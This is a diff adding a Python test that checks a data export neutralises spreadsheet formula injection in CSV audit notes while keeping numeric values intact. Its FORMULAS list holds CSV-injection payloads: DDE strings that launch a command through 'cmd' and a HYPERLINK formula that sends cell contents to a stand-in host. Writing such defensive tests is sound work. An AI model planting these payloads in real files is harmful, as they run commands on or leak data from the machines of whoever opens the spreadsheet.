@@ -218,3 +218,32 @@ def test_export_csvs_name_each_uw71_bin_and_ship_the_bin_names(tmp_path, db):
     names = pd.read_csv(tmp_path / "out" / "uw71_names.csv")
     assert list(names.columns) == ["color_index", "hex", "iscc_nbs_l3", "iscc_nbs_l1", "basic_term"]
     assert names["color_index"].tolist() == list(range(71))
+
+
+FORMULAS = [
+    '=HYPERLINK("http://x"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_export_csvs_neutralise_spreadsheet_formulas_and_keep_numbers_numbers(tmp_path, db):
+    from annotation import audit
+
+    data_dir = tmp_path / "data"
+    _fill(db, data_dir)
+    for note in FORMULAS:
+        audit.record(db, "expert-1", "request_recolor", "coloring", 1, note)
+    db.execute("update colorings set seconds_spent = -93.5")
+    db.conn.commit()
+    export(db, data_dir, tmp_path / "out")
+    with open(tmp_path / "out" / "csv" / "audit.csv", newline="", encoding="utf-8") as f:
+        notes = [row["why"] for row in csv.DictReader(f) if row["action"] == "request_recolor"]
+    assert notes == ["'" + note for note in FORMULAS]
+    colorings = pd.read_csv(tmp_path / "out" / "csv" / "colorings.csv")
+    assert colorings["seconds_spent"].tolist() == [-93.5]
+    parquet = pd.read_parquet(tmp_path / "out" / "parquet" / "audit.parquet")
+    assert parquet["why"].tolist()[-len(FORMULAS) :] == FORMULAS  # typed: kept as they are
